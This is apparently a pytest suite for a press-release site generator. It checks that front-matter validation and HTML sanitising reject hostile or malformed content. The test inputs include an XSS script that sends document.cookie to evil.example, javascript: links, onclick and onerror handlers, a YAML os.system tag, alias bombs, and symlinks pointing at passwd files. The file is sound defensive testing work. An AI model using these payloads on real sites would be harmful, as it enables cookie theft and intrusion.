"""Whatever a source file holds, `check` reports it as `path:line: field: what — fix` and nothing crashes.

Each test writes one mistake into a copy of the sample content, as an author (or an attacker) would,
and reads what `check_site` says about it.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from support.site import SAMPLE_CONTENT, build, read_html, site_settings
from support.sources import BODY, HEAD, check, only, problems_of

from pressroom.content_model.sanitise import embed_allowed, removals, sanitise


def test_a_valid_release_has_no_problems(content):
    assert problems_of(content, HEAD + BODY) == []


# --- The front matter ends only where YAML says it ends ---------------------------------------------


def test_horizontal_rule_indented_in_notes_to_editors_keeps_the_fields_after_it(content):
    text = HEAD + "notes_to_editors: |\n  One.\n\n  ---\n\n  Two.\nstatus: draft\n" + BODY
    (content / "releases" / "release.md").write_text(text, encoding="utf-8")
    result = check(content)
    assert result.errors == []
    [release] = result.releases
    assert release.status == "draft"
    assert release.notes_to_editors == "One.\n\n---\n\nTwo."


def test_dash_line_in_column_one_inside_a_block_is_an_error_naming_its_line(content):
    text = HEAD + "notes_to_editors: |\n  One.\n---\n  Two.\nembargo: 2030-01-01T00:00+00:00\n" + BODY
    problem = only(problems_of(content, text))
    assert (problem.line, problem.field) == (8, "front matter")
    assert "inside a '|' or '>' block" in problem.what
    assert "indent the '---'" in problem.fix


def test_fields_after_an_early_dash_line_are_not_silently_body_text(content):
    text = HEAD + "notes_to_editors: A line\n---\nembargo: 2030-01-01T00:00+00:00\nStatus: draft\n" + BODY
    problems = problems_of(content, text)
    assert [(p.line, p.field) for p in problems] == [(8, "embargo"), (9, "status")]
    assert "below the '---' on line 7" in problems[0].what


def test_dash_line_inside_a_quoted_value_is_an_error_not_a_cut(content):
    text = HEAD + 'notes_to_editors: "One\n---\nTwo"\nstatus: draft\n' + BODY
    problem = only(problems_of(content, text))
    assert (problem.line, problem.field) == (6, "notes_to_editors")
    assert "is not closed before a '---' at the start of a later line" in problem.what


# --- Unknown and blank fields are errors ---------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "meant"),
    [("Embargo: 2030-01-01T00:00+00:00", "embargo"), ("Status: draft", "status"), ("embrago: x", "embargo")],
)
def test_unknown_field_is_an_error_naming_the_nearest_known_field(content, line, meant):
    problem, *about_its_value = problems_of(content, HEAD + line + "\n" + BODY)
    assert (problem.line, problem.severity) == (6, "error")
    assert problem.what == "is not a known field"
    assert f"did you mean '{meant}'?" in problem.fix
    # Its value is checked as the field it means, on the same line ('x' is not a date).
    assert [(p.line, p.field) for p in about_its_value] == ([(6, "embrago")] if line == "embrago: x" else [])


@pytest.mark.parametrize("field", ["embargo", "status", "slug", "image"])
def test_blank_field_is_an_error_not_absent(content, field):
    problem = only(problems_of(content, HEAD + f"{field}:\n" + BODY))
    assert (problem.line, problem.field, problem.what) == (6, field, "is blank")
    assert f"write a value after '{field}:'" in problem.fix


def test_blank_field_inside_a_group_is_an_error(content):
    problem = only(problems_of(content, HEAD + "responds_to:\n  title: A report\n  url:\n" + BODY))
    assert (problem.line, problem.field, problem.what) == (8, "responds_to.url", "url is blank")


# --- Every mistake in one run -----------------------------------------------------------------------


def test_a_yaml_mistake_does_not_hide_the_other_mistakes_of_the_file(content):
    text = (
        "---\n"
        "title: 'Babies can't wait'\n"  # YAML stops here
        "date: 2022-06-01\n"
        "type: statement\n"
        "summary: " + "A standfirst that goes on. " * 15 + "\n"
        "spokesperson: [keith-reed]\n"
        "quotes:\n  - by: keith-reed\n    text: One.\n  - by: sally-hogg\n    text: Two.\n"
        "notes_to_editors: About us: a charity\n"  # and here
        "---\n"
        "The lead\x07 paragraph.\n\n[[quote 5]]\n"
    )
    problems = problems_of(content, text)
    assert sorted((p.line, p.field) for p in problems) == [
        (2, "title"),
        (5, "summary"),
        (6, "spokesperson"),
        (12, "notes_to_editors"),
        (14, "body"),
        (16, "body"),
    ], [str(problem) for problem in problems]
    said = {p.field: p.what for p in problems if p.field != "body"}
    assert "apostrophe in “can't”" in said["title"]
    assert "more than the 300 allowed" in said["summary"]
    assert "colon followed by a space" in said["notes_to_editors"]
    body = sorted(p.what for p in problems if p.field == "body")
    assert body == [
        "[[quote 5]] names a quote that does not exist",
        "contains the invisible character U+0007 (bell)",
    ]


def test_a_misspelt_field_is_checked_as_the_field_it_means(content):
    text = HEAD.replace("summary: A short standfirst.", "summery: " + "Far too long. " * 30)
    problems = problems_of(content, text + BODY)
    assert [(p.line, p.field, p.what) for p in problems] == [
        (5, "summery", "is not a known field"),
        (5, "summery", "is 419 characters long, more than the 300 allowed"),
    ]
    assert problems[0].fix == "did you mean 'summary'?"


def test_a_quote_with_a_mistake_still_counts_for_the_markers_that_place_quotes(content):
    quotes = "quotes:\n  - by: keith-reed\n    text: One.\n  - by: nobody-we-know\n    text: Two.\n"
    problem = only(problems_of(content, HEAD + quotes + "---\nLead.\n\n[[quote 2]]\n"))
    assert (problem.line, problem.field) == (9, "quotes[2].by")


# --- Values that used to crash -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "field", "what"),
    [
        ("date: 2024-02-30", "date", "'2024-02-30' is not a date that exists (February 2024 has 29 days)"),
        ("date: 2024-13-45", "date", "'2024-13-45' is not a date that exists (there is no month 13)"),
        ("updated:\n  - date: 2024-02-30\n    note: Fixed", "updated[1].date", "is not a date that exists"),
        ("embargo: 0001-01-01T00:00+01:00", "embargo", "is in the year 1"),
        ("embargo: 9999-12-31T23:59-12:00", "embargo", "is in the year 9999"),
        ("summary: " + "1" * 5000, "summary", "more than the 300 allowed"),
    ],
)
def test_impossible_and_out_of_range_values_are_problems(content, line, field, what):
    text = HEAD.replace("date: 2022-06-01\n", "") if line.startswith("date:") else HEAD
    if line.startswith("summary:"):
        text = text.replace("summary: A short standfirst.\n", "")
    problem = only(problems_of(content, text + line + "\n" + BODY))
    assert problem.field == field
    assert what in problem.what


@pytest.mark.parametrize(
    "tag", ["!!int 'x'", "!!float 'x'", "!!bool 'maybe'", "!!timestamp 'x'", "!!python/name:os.system ''"]
)
def test_yaml_tags_are_refused_with_the_line(content, tag):
    problem = only(problems_of(content, HEAD + f"slug: {tag}\n" + BODY))
    assert (problem.line, problem.field) == (6, "front matter")
    assert "YAML tag" in problem.what and "is not allowed" in problem.what


@pytest.mark.parametrize(
    "yaml_text",
    [
        "topics: &a [*a]\n",
        "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n",
        "slug: &s care\n",
    ],
    ids=["recursive alias", "alias bomb", "anchor"],
)
def test_anchors_and_aliases_are_refused(content, yaml_text):
    problem = only(problems_of(content, HEAD + yaml_text + BODY))
    assert problem.line == 6
    assert "anchors and aliases" in problem.what
    assert "gigabytes" in problem.fix


def test_billion_laughs_is_refused_quickly(content):
    levels = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    levels += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 10)]
    problem = only(problems_of(content, HEAD + "\n".join(levels) + "\n" + BODY))
    assert "anchors and aliases" in problem.what


@pytest.mark.parametrize("opening", ["[", "{a: "])
def test_very_deep_nesting_is_refused_before_it_can_crash_libyaml(content, opening):
    closing = "]" if opening == "[" else "}"
    value = opening * 40_000 + "x" + closing * 40_000
    problem = only(problems_of(content, HEAD + f"topics: {value}\n" + BODY))
    assert (problem.line, problem.field) == (6, "front matter")
    assert "nested more than" in problem.what


def test_deep_block_nesting_is_refused(content):
    problem = only(problems_of(content, HEAD + "topics:\n" + "- " * 40_000 + "x\n" + BODY))
    assert (problem.line, problem.field) == (7, "front matter")
    assert "nested more than" in problem.what


def test_non_scalar_keys_are_refused(content):
    problem = only(problems_of(content, HEAD + "? [a, b]\n: c\n" + BODY))
    assert (problem.line, problem.field) == (6, "front matter")
    assert "field name is a list or a group" in problem.what


def test_people_yaml_with_an_impossible_date_and_aliases_is_reported(content):
    people = content / "people.yaml"
    people.write_text(people.read_text(encoding="utf-8").replace("bio: >-", "bio: 2024-02-30\n    x: >-", 1))
    people.write_text(people.read_text(encoding="utf-8") + "extra: &e [*e]\n", encoding="utf-8")
    problems = check(content).errors
    assert [(Path(p.path).name, p.field) for p in problems] == [("people.yaml", "people.yaml")]
    assert "anchors and aliases" in problems[0].what


def test_people_yaml_with_an_impossible_date_is_text_not_a_crash(content):
    people = content / "people.yaml"
    people.write_text(
        people.read_text(encoding="utf-8").replace("bio: >-", "born: 2024-02-30\n    bio: >-", 1)
    )
    problems = check(content).errors
    assert [(Path(p.path).name, p.field, p.what) for p in problems] == [
        ("people.yaml", "people.0.born", "'born' is not a field of the person")
    ]


# --- Invisible characters ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("escape", "shown"), [("\\f", "U+000C"), ("\\a", "U+0007"), ("\\0", "U+0000"), ("\\uFFFE", "U+FFFE")]
)
def test_control_characters_in_a_text_field_are_an_error_with_the_fix(content, escape, shown):
    text = HEAD.replace("title: Charity responds to the spending review", f'title: "Charity{escape}responds"')
    problem = only(problems_of(content, text + BODY))
    assert (problem.line, problem.field) == (2, "title")
    assert f"contains the invisible character {shown}" in problem.what
    assert "delete it" in problem.fix


def test_raw_control_character_in_the_front_matter_names_its_line_and_field(content):
    text = HEAD.replace("A short standfirst.", "A short\x07 standfirst.")
    problem = only(problems_of(content, text + BODY))
    assert (problem.line, problem.field) == (5, "summary")
    assert "U+0007 (bell)" in problem.what


def test_every_raw_control_character_in_the_front_matter_is_reported_in_one_run(content):
    text = HEAD.replace("A short standfirst.", "A short\x07 standfirst.").replace("spending", "spend\x1bing")
    problems = problems_of(content, text + BODY)
    assert [(p.line, p.field, p.what) for p in problems] == [
        (2, "title", "contains the invisible character U+001B (escape)"),
        (5, "summary", "contains the invisible character U+0007 (bell)"),
    ]


@pytest.mark.parametrize("character", ["\x07", "\x00", "\ufffe", "\x1b"])
def test_control_characters_in_the_body_are_an_error_naming_the_line(content, character):
    problem = only(problems_of(content, HEAD + BODY + f"Second line.\nThird{character} line.\n"))
    assert (problem.line, problem.field) == (9, "body")
    assert "invisible character" in problem.what


def test_form_feed_in_the_body_becomes_a_paragraph_break(content):
    text = HEAD + "---\nEnd of page one.\x0cStart of page two.\n"
    (content / "releases" / "release.md").write_text(text, encoding="utf-8")
    result = check(content)
    assert result.errors == []
    [(_, document)] = result.sources.values()
    assert document.markdown == "End of page one.\n\nStart of page two.\n"


# --- Names too long for a file system ------------------------------------------------------------


def test_title_too_long_for_a_file_name_is_an_error_with_the_limit(content):
    text = HEAD.replace("Charity responds to the spending review", "Word " * 60)
    problem = only(problems_of(content, text + BODY))
    assert (problem.line, problem.field) == (2, "title")
    assert "limited to 255 bytes" in problem.what and "at most 200" in problem.what
    assert "shorter 'slug:'" in problem.fix


def test_slug_too_long_is_an_error_with_the_limit(content):
    problem = only(problems_of(content, HEAD + "slug: " + "a" * 300 + "\n" + BODY))
    assert (problem.line, problem.field) == (6, "slug")
    assert "is 300 characters long" in problem.what and "255 bytes" in problem.what


def test_title_without_words_is_refused(content):
    text = HEAD.replace("Charity responds to the spending review", "'!!! — ???'")
    problem = only(problems_of(content, text + BODY))
    assert (problem.field, problem.what, problem.fix) == (
        "title",
        "'!!! — ???' has no words in it",
        "write it in words",
    )


def test_title_whose_words_make_no_address_needs_a_slug(content):
    # Javanese: letters the site's slugs cannot spell (nor the PDFs' fonts draw, a problem of its own).
    text = HEAD.replace("Charity responds to the spending review", "ꦗꦮ")
    fixes = [problem.fix for problem in problems_of(content, text + BODY) if problem.field == "title"]
    assert "add a 'slug:' line, for example 'slug: our-response'" in fixes


# --- Images and links that leave content/ --------------------------------------------------------

IMAGE = "image:\n  src: images/photo.jpg\n  alt: A photo\n"


def test_image_whose_bytes_are_not_an_image_is_an_error(content):
    (content / "images").mkdir()
    (content / "images" / "photo.jpg").write_text("root:x:0:0:root:/root:/bin/bash\n")
    problems = problems_of(content, HEAD + IMAGE + BODY)
    assert sorted(problem.field for problem in problems) == ["file", "image.src"]  # the file, and its use
    problem = next(problem for problem in problems if problem.field == "image.src")
    assert (problem.line, problem.field) == (7, "image.src")
    assert "is not a real JPEG, PNG, WebP or GIF image" in problem.what


def test_real_image_is_accepted(content):
    from PIL import Image

    (content / "images").mkdir()
    Image.new("RGB", (4, 4)).save(content / "images" / "photo.jpg")
    assert problems_of(content, HEAD + IMAGE + BODY) == []


def test_image_path_leading_outside_content_is_an_error(content):
    from PIL import Image

    Image.new("RGB", (4, 4)).save(content.parent / "secret.png")
    text = HEAD + "image:\n  src: ../secret.png\n  alt: A photo\n" + BODY
    problem = only(problems_of(content, text))
    assert problem.field == "image.src"
    assert "leads outside the content folder" in problem.what


def test_symlink_to_a_file_outside_content_is_an_error(content):
    (content.parent / "passwd").write_text("root:x:0:0\n")
    (content / "images").mkdir()
    (content / "images" / "team-photo.png").symlink_to(content.parent / "passwd")
    problem = only(check(content).errors)
    assert Path(problem.path).name == "team-photo.png"
    assert "outside the content folder" in problem.what


@pytest.mark.parametrize("loop", ["self", "ancestor"])
def test_symlink_loop_is_an_error_not_a_hang(content, loop):
    if loop == "self":
        (content / "releases" / "again").symlink_to(content / "releases" / "again")
    else:
        (content / "releases" / "again").symlink_to(content)
    (content / "releases" / "release.md").write_text(HEAD + BODY, encoding="utf-8")
    problem = only(check(content).errors)
    assert Path(problem.path).name == "again"
    assert "loop" in problem.what or "contains it" in problem.what


# --- A whole build: hidden broken releases stay out of the way; the publication moment -----------

NOW = "2025-06-01T09:00+01:00"
EMBARGOED = (
    HEAD.replace("Charity responds to the spending review", "Embargo lifted this morning").replace(
        "date: 2022-06-01", "date: 2025-05-20"
    )
    + "embargo: 2025-05-28T00:01+01:00\n"
    + "---\nThe body.\x0cA page break from a word processor.\n"
)
BROKEN_DRAFT = HEAD.replace("Charity responds to the spending review", "Broken draft") + (
    "status: draft\nspokespeople: [nobody-we-know]\n" + BODY
)
BROKEN_EMBARGOED = HEAD.replace("Charity responds to the spending review", "Broken embargoed") + (
    "embargo: 2030-01-01T00:01+00:00\ntopics: [no-such-topic]\n" + BODY
)


@pytest.fixture(scope="module")
def hostile_content(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile") / "content"
    shutil.copytree(SAMPLE_CONTENT, root)
    for name, text in (
        ("embargo-lifted.md", EMBARGOED),
        ("broken-draft.md", BROKEN_DRAFT),
        ("broken-embargoed.md", BROKEN_EMBARGOED),
    ):
        (root / "releases" / name).write_text(text, encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def hostile_site(hostile_content) -> Path:
    return build(hostile_content, hostile_content.parent / "output", PRESSROOM_NOW=NOW)


def test_broken_hidden_releases_do_not_block_the_build_and_are_left_out(hostile_site):
    built = {path.relative_to(hostile_site).as_posix() for path in hostile_site.rglob("*.html")}
    assert "releases/2025/embargo-lifted-this-morning/index.html" in built
    assert not [path for path in built if "broken" in path]
    assert "Broken" not in (hostile_site / "feeds" / "all.atom.xml").read_text(encoding="utf-8")


def test_broken_hidden_releases_are_still_reported_apart_from_blocking_errors(hostile_content, capsys):
    from pressroom.validation.site_check import report

    result = check(hostile_content, PRESSROOM_NOW=NOW)
    assert sorted((Path(p).name, held.reason) for p, held in result.held_back.items()) == [
        ("broken-draft.md", "draft"),
        ("broken-embargoed.md", "embargoed"),
    ]
    assert len(result.errors) == 2  # `invoke check` still fails on them
    public = result.for_public_build()
    assert public.errors == []
    text = report(public)
    assert "Not public yet (draft, embargoed), so a public build leaves these out and goes on" in text
    assert "broken-draft.md:7: spokespeople[1]: no person with the id 'nobody-we-know'" in text


def test_a_preview_which_would_show_them_stops_on_their_errors(hostile_content, tmp_path):
    from pressroom.validation import ContentInvalid

    with pytest.raises(ContentInvalid) as stopped:
        build(hostile_content, tmp_path / "preview", PRESSROOM_NOW=NOW, PRESSROOM_PREVIEW=True)
    assert "broken-draft.md:7" in str(stopped.value)


def test_a_broken_release_that_would_be_public_still_blocks(hostile_content):
    broken = hostile_content.parent / "public-broken" / "content"
    shutil.copytree(hostile_content, broken)
    (broken / "releases" / "broken-public.md").write_text(
        HEAD + "spokespeople: [nobody-we-know]\n" + BODY, encoding="utf-8"
    )
    result = check(broken, PRESSROOM_NOW=NOW).for_public_build()
    assert [Path(problem.path).name for problem in result.errors] == ["broken-public.md"]


def test_an_embargoed_release_that_lost_its_date_blocks_with_the_missing_date(content):
    # Without a date, its address cannot be worked out: it cannot be left out safely, so it blocks.
    undated = HEAD.replace("date: 2022-06-01\n", "") + "embargo: 2030-01-01T00:01+00:00\n" + BODY
    (content / "releases" / "undated.md").write_text(undated, encoding="utf-8")
    result = check(content, PRESSROOM_NOW=NOW).for_public_build()
    assert str(only(result.errors)).endswith(
        "undated.md: date: is required but missing — add 'date: 2022-04-02'. The day the release is "
        "dated. It goes out on this day, or when its embargo lifts if that is later."
    )


def test_release_is_published_at_the_later_of_its_date_and_embargo(hostile_site):
    import json

    import feedparser

    page = read_html(hostile_site, "releases/2025/embargo-lifted-this-morning/")
    assert page.select_one(".release-date time")["datetime"] == "2025-05-28T00:01:00+01:00"
    [data] = [json.loads(tag.string) for tag in page.select('script[type="application/ld+json"]')]
    published = [node.get("datePublished") for node in data.get("@graph", [data])]
    assert "2025-05-28T00:01:00+01:00" in published
    feed = feedparser.parse((hostile_site / "feeds" / "all.atom.xml").read_bytes())
    [entry] = [entry for entry in feed.entries if entry.title == "Embargo lifted this morning"]
    assert entry.published == "2025-05-28T00:01:00+01:00"


def test_page_break_in_the_body_becomes_a_paragraph_and_feeds_stay_well_formed(hostile_site):
    from xml.etree import ElementTree

    page = read_html(hostile_site, "releases/2025/embargo-lifted-this-morning/")
    paragraphs = [p.get_text() for p in page.select(".release-body p")]
    assert "A page break from a word processor." in paragraphs
    for feed in (hostile_site / "feeds").rglob("*.xml"):
        ElementTree.parse(feed)


# --- Sanitised bodies ----------------------------------------------------------------------------

HOSTILE_BODY = """---
The lead paragraph.

<script>fetch('https://evil.example/?c=' + document.cookie)</script>

A [harmless-looking link](javascript:alert(1)) and <span onclick="steal()">a span</span>.

<iframe src="https://evil.example/frame"></iframe>

<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Our film"></iframe>

| Year | Families |
|:-----|---------:|
| 2024 | 1,200 |
"""


def test_check_names_everything_the_sanitiser_would_remove_with_its_line(content):
    problems = problems_of(content, HEAD + HOSTILE_BODY)
    assert sorted((p.line, p.field, p.what) for p in problems) == [
        (9, "body", "has a <script> element, which is removed from the page"),
        (
            11,
            "body",
            "has the address 'javascript:alert(1)' of <a>, which is removed from the page",
        ),
        (11, "body", "has the event handler onclick= on <span>, which is removed from the page"),
        (
            13,
            "body",
            "has the embed of https://evil.example/frame, from a host not on the list, "
            "which is removed from the page",
        ),
    ]
    assert all(problem.severity == "error" for problem in problems)


# Longer than the 80 characters a message quotes of an address.
BACKSLASHED = "https:\\evil.example/" + "a" * 90
UNLISTED = "https://evil.example/" + "a" * 90
DATA = "data:image/png;base64," + "A" * 90
YOUTUBE = ["www.youtube-nocookie.com"]
REMOVE_THE_TAG = "remove the tag, or write the content in Markdown (headings, lists, tables, links, images)"
EMBED_ONLY = "(PRESSROOM_EMBED_HOSTS in pelicanconf.py), or link to the page"


@pytest.mark.parametrize(
    "html, hosts, what, fix",
    [
        (
            "<style>p { color: red }</style>",
            YOUTUBE,
            "a <style> element",
            "remove it: a release page never runs scripts",
        ),
        # Its attribute goes with it, and is not named apart.
        (
            'Some <font color="red">red words</font>.',
            YOUTUBE,
            "a <font> element (its text is kept)",
            REMOVE_THE_TAG,
        ),
        (
            'An <abbr onmouseover="steal()">event</abbr>.',
            YOUTUBE,
            "the event handler onmouseover= on <abbr>",
            "remove it: a release page never runs scripts",
        ),
        (
            f"A [link]({BACKSLASHED}).",
            YOUTUBE,
            f"the address '{BACKSLASHED[:80]}' of <a> (browsers would read it differently from this site)",
            "write it as a plain https:// address, without a backslash (\\) or a name and @ before the host",
        ),
        (
            f'<iframe src="{UNLISTED}"></iframe>',
            [*YOUTUBE, "player.vimeo.com"],
            f"the embed of {UNLISTED[:80]}, from a host not on the list",
            f"embed only from https://www.youtube-nocookie.com, https://player.vimeo.com {EMBED_ONLY}",
        ),
        # A listed host, but not over https: the page would load it in the clear.
        (
            '<iframe src="http://www.youtube-nocookie.com/embed/abc"></iframe>',
            YOUTUBE,
            "the embed of http://www.youtube-nocookie.com/embed/abc, from a host not on the list",
            f"embed only from https://www.youtube-nocookie.com {EMBED_ONLY}",
        ),
        (
            '<iframe src="https://www.youtube-nocookie.com/embed/abc"></iframe>',
            [],
            "the embed of https://www.youtube-nocookie.com/embed/abc, from a host not on the list",
            f"embed only from no host (none are allowed) {EMBED_ONLY}",
        ),
        (
            f'An <img src="{DATA}" alt="x"> image.',
            YOUTUBE,
            f"the address '{DATA[:80]}' of <img>",
            "use an https:// (or mailto:/tel:) address; javascript: and data: addresses are not allowed",
        ),
        (
            'A <span style="color: red">styled</span> span.',
            YOUTUBE,
            "the style on <span>",
            "remove it: the site's styles apply to every release",
        ),
        (
            'A <p data-track="1">tracked</p> paragraph.',
            YOUTUBE,
            "the data-track attribute of <p>",
            "remove it: pages do not use it",
        ),
    ],
)
def test_check_says_what_each_removal_takes_from_the_page_where_and_how_to_put_it_right(
    content, html, hosts, what, fix
):
    body = f"---\nThe lead paragraph.\n\n{html}\n"
    problem = only(problems_of(content, HEAD + body, PRESSROOM_EMBED_HOSTS=hosts))
    assert (problem.line, problem.field) == (9, "body")
    assert (problem.what, problem.fix) == (f"has {what}, which is removed from the page", fix)


def test_check_names_the_embed_that_goes_not_the_one_that_stays_and_all_that_follows_an_element(content):
    body = (
        "---\nThe lead paragraph.\n\n"
        '<iframe src="https://www.youtube-nocookie.com/embed/abc"></iframe>\n\n'
        '<iframe src="https://evil.example/frame"></iframe>\n\n'
        'Some <font color="red">red</font> words and a <span style="color: red">styled</span> span.\n'
    )
    problems = problems_of(content, HEAD + body, PRESSROOM_EMBED_HOSTS=YOUTUBE)
    assert sorted((problem.line, problem.what) for problem in problems) == [
        (
            11,
            "has the embed of https://evil.example/frame, from a host not on the list, "
            "which is removed from the page",
        ),
        (13, "has a <font> element (its text is kept), which is removed from the page"),
        (13, "has the style on <span>, which is removed from the page"),
    ]


def test_notes_to_editors_are_checked_too(content):
    text = HEAD + 'notes_to_editors: |\n  About us <img src="x.png" onerror="steal()">\n' + BODY
    problem = only(problems_of(content, text))
    assert (problem.line, problem.field) == (6, "notes_to_editors")
    assert "onerror=" in problem.what


def test_the_reader_renders_hostile_markdown_without_any_of_it(content):
    from bs4 import BeautifulSoup

    from pressroom.content_model.reader import PressroomReader

    reader = PressroomReader(site_settings(content, content.parent / "output"))
    html = BeautifulSoup(reader.render_markdown(HOSTILE_BODY.removeprefix("---\n")), "html.parser")
    assert html.find("script") is None
    assert [frame.get("src") for frame in html.find_all("iframe")] == [
        None,
        "https://www.youtube-nocookie.com/embed/abc",
    ]
    assert html.find("a", string="harmless-looking link").get("href") is None
    assert not [tag for tag in html.find_all(True) if any(name.startswith("on") for name in tag.attrs)]


LEGITIMATE_BODY = """---
The lead paragraph, with a footnote.[^1] Read [our vision]({filename}/pages/our-vision.md).

<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Our film"></iframe>

| Year | Families |
|:-----|---------:|
| 2024 | 1,200 |

<figure><img src="{static}/images/photo.jpg" alt="A family"><figcaption>A family</figcaption></figure>

[^1]: The source of the figure.
"""


def test_what_a_release_needs_passes_check_and_reaches_the_page(content, tmp_path):
    from PIL import Image

    shutil.copytree(SAMPLE_CONTENT / "pages", content / "pages", dirs_exist_ok=True)
    (content / "images").mkdir()
    Image.new("RGB", (4, 4)).save(content / "images" / "photo.jpg")
    (content / "releases" / "release.md").write_text(HEAD + LEGITIMATE_BODY, encoding="utf-8")
    assert check(content).problems == []
    site = build(content, tmp_path / "output", PRESSROOM_NOW=NOW)
    body = read_html(site, "releases/2022/charity-responds-to-the-spending-review/").select_one("main")
    assert body.find("iframe")["src"] == "https://www.youtube-nocookie.com/embed/abc"
    assert [cell.get("class") for cell in body.select("th")] == [["align-left"], ["align-right"]]
    assert body.select_one("figure img")["src"] == "/images/photo.jpg"
    assert body.select_one("sup a")["href"] == "#fn:1"
    assert body.find("a", string="our vision")["href"] == "/our-vision-the-1001-critical-days/"


def test_quote_marker_with_thousands_of_digits_is_a_problem_not_a_crash(content):
    problems = problems_of(content, HEAD + BODY + "\n[[quote " + "9" * 5000 + "]]\n")
    assert [(problem.line, problem.field) for problem in problems] == [(9, "body"), (9, "body")]
    assert "has a word of 5,002 characters" in problems[0].what  # and no release needs such a word
    assert "names a quote that does not exist" in problems[1].what


def test_integer_with_thousands_of_digits_is_text_not_a_crash(content):
    text = HEAD.replace("summary: A short standfirst.", "summary: " + "9" * 5000)
    problem = only(problems_of(content, text + BODY))
    assert (problem.line, problem.field) == (5, "summary")
    assert "more than the 300 allowed" in problem.what


def test_a_dateline_place_of_punctuation_alone_is_refused(content):
    text = HEAD.replace("---\n", "---\nplace: '!!!'\n", 1)
    problem = only(problems_of(content, text + BODY))
    assert (problem.field, problem.fix) == ("place", "write it in words")


# --- What the sanitiser says it removes, and the words `check` looks for to find its line -------------------


YOUTUBE = ("www.youtube-nocookie.com",)


@pytest.mark.parametrize(
    ("html", "what", "needle"),
    [
        (
            '<a href="javascript:alert(1)//' + "a" * 60 + '">x</a>',
            "the address 'javascript:alert(1)//" + "a" * 59 + "' of <a>",
            "javascript:alert(1)//" + "a" * 19,
        ),
        ('<iframe src=""></iframe>', "the embed of , from a host not on the list", "<iframe"),
        (
            '<iframe src="https://evil.example/' + "b" * 60 + '"></iframe>',
            "the embed of https://evil.example/" + "b" * 59 + ", from a host not on the list",
            "https://evil.example/" + "b" * 19,
        ),
        (
            '<img src="https://evil.example\\@img.example/' + "c" * 60 + '.png" alt="">',
            "the address 'https://evil.example\\@img.example/" + "c" * 46 + "' of <img> (browsers would read "
            "it differently from this site)",
            "https://evil.example\\@img.example/" + "c" * 6,
        ),
    ],
)
def test_each_removal_is_named_with_the_start_of_its_address(html, what, needle):
    [removal] = removals(html, YOUTUBE)
    assert (removal.what, removal.needle) == (what, needle)


def test_an_embed_address_is_read_as_browsers_read_it_once_trimmed():
    assert embed_allowed("\x01 https://www.youtube-nocookie.com/embed/x\x0c", YOUTUBE)
    assert not embed_allowed("http://www.youtube-nocookie.com/embed/x", YOUTUBE)
    assert not embed_allowed("https://www.youtube-nocookie.com/embed/x", ())


def test_the_sanitiser_keeps_alignment_as_a_class_drops_scripts_whole_and_adds_nothing_to_links():
    assert sanitise(
        '<table><tr><td style="text-align: left;">x</td><th style="text-align: center;">y</th></tr></table>'
    ) == (
        '<table><tbody><tr><td class="align-left">x</td><th class="align-center">y</th></tr></tbody></table>'
    )
    assert sanitise("<p>a</p><script>alert(1)</script><style>p{}</style>") == "<p>a</p>"
    https, mail = '<a href="https://x.example/">x</a>', '<a href="mailto:a@b.example">m</a>'
    assert sanitise(f'<a href="ftp://x.example/f">f</a> {https} {mail}') == f"<a>f</a> {https} {mail}"


def test_an_embed_without_an_address_is_named_by_its_tag():
    [removal] = removals("<iframe src></iframe>", YOUTUBE)
    assert (removal.what, removal.needle) == ("the embed of , from a host not on the list", "<iframe")
